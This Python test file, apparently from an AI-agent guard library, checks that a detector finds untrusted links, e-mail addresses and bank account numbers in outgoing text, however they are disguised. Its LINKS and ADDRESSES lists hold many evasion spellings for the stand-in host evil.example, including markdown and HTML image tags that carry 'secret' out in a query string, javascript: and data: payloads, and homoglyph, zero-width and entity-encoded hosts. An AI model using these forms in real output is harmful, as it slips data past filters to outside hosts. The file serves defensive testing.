"""Links, e-mail addresses and account numbers that stand inside of a text, however they are written."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from time import thread_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentguard.model import Arguments, Label, Mandate, Provenance, Sensitivity, TaskState, ToolPath, ToolSpec
from agentguard.model.identity import Identity
from agentguard.model.looks import TEXT_KINDS, Look
from agentguard.provenance.arguments import provenance_of, value_digests
from agentguard.provenance.inside import places_in
from agentguard.provenance.items import CHARACTERS, MOST_ITEMS, items_in
from agentguard.provenance.labels import observe_result
from agentguard.text import printable
from tests.doubles.texts import texts
from tests.tiers import examples

SEND = ToolSpec(name="send", path=ToolPath.WRITE, schema={"properties": {"body": {"type": "string"}}})
CONTACTS = ToolSpec(name="contacts", path=ToolPath.READ, trusted=frozenset({"email", "site"}))
WEB = ToolSpec(name="web", path=ToolPath.READ, untrusted=True)
TASK = TaskState(
    id="t",
    purpose="p",
    identity=Identity(subject="user:ada", actor="agent://a"),
    mandate=Mandate.of({"tools": "*"}),
    deadline=2e9,
    words="Send https://good.example/a, to bob@good.example. Pay GB29NWBK60161331926819 by good.example"
    " or https://good.example or https://good.example.",
    untrusted=True,
    sensitivity=Sensitivity.INTERNAL,
)


def texts_of(body: str, task: TaskState = TASK, *results: tuple[ToolSpec, object]) -> dict[str, Provenance]:
    labels: dict[str, list[Label]] = {}
    for spec, result in results:
        for label in observe_result(spec, task, result).labels:
            labels.setdefault(label.digest, []).append(label)
    task = replace(task, labels=len(labels))
    arguments = Arguments.of({"body": body})
    places = places_in(arguments.values, {"body": Look({}, TEXT_KINDS)}, SEND.declared)
    known = {d: labels[d] for d in value_digests(task, arguments, places) if d in labels}
    return dict(provenance_of(SEND, arguments, task, known, places).arguments["body"].texts)


def wide(text: str) -> str:
    """Return a text in the wide forms of its characters, which NFKC makes plain again."""
    return "".join(chr(ord(character) + 0xFEE0) for character in text)


GOOD = "https://good.example/a"
LINKS = [
    "https://evil.example",
    "HTTPS://EVIL.EXAMPLE/x",
    "see https://evil.example.",
    "(https://evil.example)",
    "[text](https://evil.example)",
    f"[{GOOD}](https://evil.example)",
    f"![{GOOD}](https://evil.example/p.png?d=secret)",
    f"[{GOOD}]: https://evil.example",
    f"<a href='https://evil.example'>{GOOD}</a>",
    f'<img src="https://evil.example/?q=secret">{GOOD}',
    f"<a href=//evil.example>{GOOD}",
    f"<https://evil.example|{GOOD}>",
    "evil.example",
    "www.evil.example/path",
    "evil.example:8080",
    "*evil.example*",
    "http://3232235777/",
    "http:3232235777",
    "http://0x7f000001",
    "//3232235777/x",
    "http://[2001:db8::1]/",
    "192.0.2.7/collect",
    "http:\\\\evil.example",
    "https:/\\3232235777",
    "ftp://evil.example",
    "ws:3232235777",
    "javascript:alert(1)",
    "data:text/html,<script>",
    "slack://open?team=1",
    "\\\\3232235777\\share",
    # a good host in front of the true one
    "https://good.example@evil.example/a",
    "https://good.example%40evil.example/a",
    "https://good.example:pw@3232235777/a",
    "https://good.example\\@3232235777",
    'https://good.example"@3232235777',
    'https://good.example"x@3232235777',
    "https://good.example)(x@3232235777",
    "https://good.example'@3232235777",
    "https://good.example`@3232235777",
    'https://good.example",@3232235777',
    "https://good.example|@3232235777",
    "https://good.example[@3232235777",
    "https://good.example)@3232235777",
    'https://good.example".evil.example',
    "https://good.example.evil.example/a",
    "https://good.example%2eevil.example",
    f"{GOOD}/../../evil",
    f"{GOOD}?next=https://evil.example",
    f"{GOOD}#https://evil.example",
    # what is not seen, and other spellings
    "https://ev\u200bil.example",
    "evil\u200b.example",
    "https://good.example\u200b.evil.example",
    "\u202ehttps://elpmaxe.live",
    "ht\u00adtps://3232235777",
    f"https://{wide('evil.')}example",
    wide("evil.example"),
    "http://evil。example",
    "https://gооd.example/a",  # noqa: RUF001  two letters are Cyrillic
    "пример.рф",
    "xn--e1afmkfd.xn--p1ai",
    "https&#58;//evil.example",
    "https&colon;&sol;&sol;evil.example",
    "&#101;vil&#46;example",
    "&#101vil&#x2e;example",
    f"{GOOD}&#64;evil.example",
    "https%3A%2F%2Fevil.example",
    # white space, which a browser drops inside of an attribute
    "https://good.example\n.evil.example",
    "https://good.example\t@3232235777",
    "https://good.example&#10;@3232235777",
    "ht\ntps://3232235777",
    "ht&Tab;tps://3232235777",
    "https://good.example\nx@3232235777",
    '<a href="https://good.example\nx@evil.example">good.example</a>',
    "<a href='https://good.example&NewLine;x&commat;evil.example'>good.example</a>",
    # a browser decodes the name of a host, and takes an ideographic full stop for a dot
    '<img src="//evil%2eexample/p.png">',
    "[text](//evil%E3%80%82example)",
    "/\\evil%2eexample",
    "////evil%2eexample",
    "///3232235777",
    "<a href='/\n/evil%2eexample'>text</a>",
    "evil\u3002example",
    "evil\uff61example/x",
    "[text](mailto:eve%40evil%2eexample)",
    # an angle bracket in quotes ends no tag
    "<a title='>' href='//evil\ngood.example'>text</a>",
    '<a title=">" href="//evil\n%2eexample" class=a>text</a>',
    "<a title='&gt;' href='//evil&NewLine;good.example'>text</a>",
    "<a title='<>' href='//evil\tgood.example'>text</a>",
    # after the limits
    "https://evil.example".rjust(CHARACTERS + 20),
    " ".join(f"https://good.example/a?{n}" for n in range(MOST_ITEMS + 50)),
]


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize("text", LINKS, ids=lambda text: printable(text.strip()[:40]))
@pytest.mark.parametrize("frame", ["{}", f"{GOOD} {{}}", f"{{}} {GOOD}", '"{}",'])
def test_a_link_that_nobody_has_vouched_for_is_found_however_it_is_written(text: str, frame: str) -> None:
    found = texts_of(frame.replace("{}", text))
    assert not found["links"].trusted, items_in(text)["links"]
    assert found["links"].untrusted


ADDRESSES = [
    "eve@evil.example",
    "EVE@evil.example",
    "bob@good.example.evil.example",
    "<bob@good.example>eve@evil.example",
    "Bob <eve@evil.example>",
    '"bob@good.example" <eve@evil.example>',
    "bob@good.example,eve@evil.example",
    "bob@good.example;eve@evil.example",
    "mailto:eve@evil.example?subject=x",
    "mailto:bob@good.example,eve@evil.example",
    "<a href=mailto:eve@evil.example>bob@good.example</a>",
    '"bob smith"@evil.example',
    "eve@[192.0.2.7]",
    "eve@localhost",
    f"eve{wide('@')}evil.example",
    "e\u200bve@evil.example",
    "eve&#64;evil.example",
    "eve&commat;evil.example",
    "bob+x@good.example",
    "xbob@good.example",
    "bob@good.example-evil.example",
    "bob%evil.example@good.example",
]


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize("text", ADDRESSES, ids=printable)
@pytest.mark.parametrize("frame", ["{}", "bob@good.example {}", "write to {}."])
def test_an_address_that_nobody_has_vouched_for_is_found_however_it_is_written(text: str, frame: str) -> None:
    found = texts_of(frame.replace("{}", text))
    assert not found["addresses"].trusted, items_in(text)["addresses"]


OTHER = "DE89370400440532013000"
ACCOUNTS = [
    OTHER,
    OTHER.lower(),
    "DE89 3704 0044 0532 0130 00",
    "DE89-3704-0044-0532-0130-00",
    "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
    "DE8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
    "d-e-89-370400440532013000",
    "DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000",
    "DE89\u200b370400440532013000",
    wide(OTHER),
    f"IBAN:{OTHER}.",
    f"IBAN{OTHER}",
    f"GB29NWBK60161331926819{OTHER}",
    "DE89 | 3704 | 0044 | 0532 | 0130 | 00",
    "DE89\n3704\n0044\n0532\n0130\n00",
    "GB29 NWBK 6016 1331 9268 1\u200b9 DE89 3704 0044 0532 0130 00",
    "US133000000121212121212",
    "DE&#56;9370400440532013000",
    "AA11 " * 2_500,
]


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize("text", ACCOUNTS, ids=lambda text: printable(text[:40]))
@pytest.mark.parametrize("frame", ["{}", "GB29NWBK60161331926819 or {}", "pay 10 to {} by 12 May"])
def test_an_account_that_nobody_has_vouched_for_is_found_however_it_is_parted(text: str, frame: str) -> None:
    found = texts_of(frame.replace("{}", text))
    assert not found["accounts"].trusted, items_in(text)["accounts"]


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize(
    "body",
    [
        "",
        "Nothing of that kind: 10:30, 3.14, v1.2.3, e.g. this, report.pdf, at 10 30 45 we meet 12 in 20 min",
        f"See {GOOD}.",
        f"See [the report]({GOOD}) or <{GOOD}>, or **{GOOD}**!",
        f'<a href="{GOOD}">{GOOD}</a>',
        "Ask bob@good.example, please. (bob@good.example) mailto:bob@good.example",
        "Pay GB29 NWBK 6016 1331 9268 19 or GB29NWBK60161331926819 by Friday",
        "good.example",
        "@bob said: done",
        "你好。世界。 // 50% of all",
        f"<b class='x'>See {GOOD}\nor</b> {GOOD}",
    ],
)
def test_what_the_user_has_named_is_the_users_in_any_frame(body: str) -> None:
    found = texts_of(body)
    assert {kind: (origin.user, origin.untrusted) for kind, origin in found.items()} == dict.fromkeys(
        TEXT_KINDS, (True, False)
    )


def test_a_text_of_the_user_may_hold_the_link_in_a_frame_too() -> None:
    task = replace(TASK, words="Send [this](https://good.example/b) to them")
    assert texts_of("https://good.example/b", task)["links"].user
    assert not texts_of("https://good.example/", task)["links"].user


@pytest.mark.promise("things-in-texts")
def test_a_link_has_the_sources_in_which_it_was_read() -> None:
    page = (WEB, "<p>see <a href='https://evil.example/x'>this</a> or https://site.example</p>")
    card = (CONTACTS, {"email": "eve@corp.example", "site": "https://site.example"})
    found = texts_of("https://evil.example/x eve@corp.example https://site.example", TASK, page, card)
    assert found["links"].sources == {"web", "contacts.site"}
    assert found["links"].trusted is False
    assert found["links"].sources_of_each == {"web"}
    assert found["addresses"].sources == {"contacts.email"}
    assert found["addresses"].trusted is True
    alone = texts_of("https://site.example", TASK, page, card)["links"]
    assert alone.trusted
    assert alone.sources_of_each == {"web", "contacts.site"}


def test_many_links_together_are_as_sensitive_as_the_task() -> None:
    """By the choice among them, a text can be spelled."""
    words = " ".join(f"https://good.example/{n}" for n in range(50))
    task = replace(TASK, words=words)
    assert texts_of(words, task)["links"].sensitivity is Sensitivity.INTERNAL
    assert texts_of("https://good.example/1", task)["links"].sensitivity is Sensitivity.PUBLIC


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize("more", [0, 1])
def test_of_too_many_links_one_is_nobodys(more: int) -> None:
    words = " ".join(f"https://good.example/{n}" for n in range(MOST_ITEMS + more))
    assert texts_of(words, replace(TASK, words=words))["links"].user is (more == 0)


BAD: dict[str, Callable[[int], str]] = {
    "dots": lambda n: "a." * n,
    "letters": lambda n: "a" * n,
    "at": lambda n: "@" * n,
    "addresses": lambda n: "a@" * n,
    "long addresses": lambda n: "a.b@" * n,
    "schemes": lambda n: "https://" * n,
    "users": lambda n: "https://a@" * n,
    "brackets": lambda n: "http://a(" * n,
    "colons": lambda n: ":/" * n,
    "accounts": lambda n: "AA11" * n,
    "parted accounts": lambda n: "A A 1 1 " * n,
    "references": lambda n: "&#x" * n,
    "hyphens": lambda n: "a-" * n,
    "numbers": lambda n: "1.1.1.1" * n,
    "marks": lambda n: "a\u0301" * n,
    "local part": lambda n: "x." * n + "@" + "x." * n,
    "links": lambda n: "".join(f" h{i}.example" for i in range(n // 10)),
    "tags": lambda n: "<\n" * n,
    "open tags": lambda n: "<" + "\n" * n,
    "data": lambda n: "data:a" * n,
    "quotes in tags": lambda n: "<\"'" * n,
    "quotes in a tag": lambda n: "<" + '"' * n,
    "slashes": lambda n: "/" * n,
    "slashes and hosts": lambda n: "//a" * n,
    "mail": lambda n: "mailto:" * n,
}


@pytest.mark.promise("things-in-texts")
@pytest.mark.parametrize("name", BAD)
def test_a_text_is_looked_through_in_time_that_grows_with_its_length(name: str) -> None:
    text = BAD[name](CHARACTERS)
    started = thread_time()
    items_in(text)
    assert thread_time() - started < 1.5


HOSTS = ["https://", "http:", "//", "good.example", "evil.example", "@", "%40", "&#46;", "&amp;", "\u200b"]
PIECES = st.sampled_from([*HOSTS, *"/\\\"()[]<>' \n|?#:,.a1`{}"])


@pytest.mark.promise("things-in-texts")
@settings(deadline=None, max_examples=examples(2_000))
@given(st.lists(PIECES, max_size=12))
def test_no_pieces_hide_the_name_of_another_host(pieces: list[str]) -> None:
    """Wherever a foreign host's name stands as a whole, some link or address is not the user's."""
    body = "".join(pieces)
    if "evil.example" not in pieces:
        return
    found = texts_of(body)
    assert not (found["links"].trusted and found["addresses"].trusted), body


@settings(deadline=None, max_examples=examples(300))
@given(texts(60))
def test_any_text_is_looked_through(text: str) -> None:
    assert items_in(text).keys() == set(TEXT_KINDS)
